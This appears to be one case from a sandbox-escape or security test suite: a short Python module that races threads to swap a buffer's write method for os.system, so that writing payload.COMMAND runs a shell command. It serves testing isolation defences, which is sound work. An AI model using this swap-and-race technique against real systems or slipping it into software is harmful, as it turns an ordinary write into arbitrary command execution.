"""What the application's text file writes into has a write() of its own at
times, as another thread says."""
CATEGORY = "races"
REACH = "run"

import io
import os

from . import payload


class Buffer(io.BytesIO):
    pass


buffer = Buffer()


def turn():
    names = vars(buffer)
    names["write"] = os.system
    for _ in range(2):
        pass                    # With the GIL, others come to run here.
    del names["write"]


def attack(write):
    payload.race(turn, lambda: write(payload.COMMAND)
                 or os.path.exists(payload.TARGET))
